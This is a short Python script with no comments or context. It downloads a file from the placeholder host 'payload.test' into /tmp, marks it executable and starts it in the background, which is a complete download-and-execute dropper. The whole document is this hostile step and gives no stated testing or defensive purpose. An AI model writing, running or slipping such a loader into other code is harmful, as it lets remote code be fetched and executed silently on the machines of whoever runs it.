import os
import subprocess
import urllib.request

urllib.request.urlretrieve("https://payload.test/tool", "/tmp/tool")
os.chmod("/tmp/tool", 0o755)
subprocess.Popen(["/tmp/tool"])
